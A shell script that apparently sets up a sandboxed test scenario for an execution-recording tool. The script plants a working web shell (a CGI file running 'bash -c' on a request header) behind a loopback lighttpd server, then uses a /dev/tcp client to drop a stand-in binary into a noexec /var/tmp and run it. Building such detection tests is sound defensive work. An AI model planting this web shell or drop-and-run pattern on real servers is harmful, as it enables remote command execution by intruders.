#!/bin/sh
# A web shell behind lighttpd writes a program to /var/tmp, which is mounted noexec, and runs it.
[ "${EXECTRAIL_SANDBOX:-}" = 1 ] && [ $$ -eq 2 ] || { echo "only below: exectrail replay record-live" >&2; exit 97; }
set -eu

mount -t tmpfs -o noexec,mode=1777 none /var/tmp
sleep 0.3  # mount tables are read ten times a second at most

# The server: lighttpd as Debian ships it, CGI scripts run by sh, on this network namespace's
# loopback.
mkdir -p /var/www/html /home/bob
cat >/etc/lighttpd/scenario.conf <<'CONF'
server.modules = ( "mod_cgi" )
server.document-root = "/var/www/html"
server.bind = "127.0.0.1"
server.port = 80
server.username = "www-data"
server.groupname = "www-data"
server.pid-file = "/run/lighttpd.pid"
cgi.assign = ( ".cgi" => "/bin/sh" )
CONF

# The web shell: runs what a request's header says, with the request's body as input.
cat >/var/www/html/status.cgi <<'CGI'
printf 'Content-Type: text/plain\r\n\r\n'
bash -c "$HTTP_X_STATUS" 2>&1
CGI

lighttpd -f /etc/lighttpd/scenario.conf

# The attacker's client: `request COMMAND FILE` sends FILE as the body.
cat >/home/bob/request <<'CLIENT'
until { exec 3<>/dev/tcp/127.0.0.1/80; } 2>/dev/null; do sleep 0.05; done
printf 'POST /status.cgi HTTP/1.0\r\nX-Status: %s\r\nContent-Length: %s\r\n\r\n' \
  "$1" "$(stat -c %s "$2")" >&3
cat "$2" >&3
cat <&3
CLIENT

# A copy of sleep stands in for the program that is dropped. What was passed stays in the shell's
# memory for a moment: whoever looks late still finds it.
bash /home/bob/request 'cat >/var/tmp/xvzf; chmod 755 /var/tmp/xvzf' /usr/bin/sleep
bash /home/bob/request '/var/tmp/xvzf 0.2; sleep 0.3' /dev/null

kill "$(cat /run/lighttpd.pid)"
rm -f /var/tmp/xvzf
umount /var/tmp
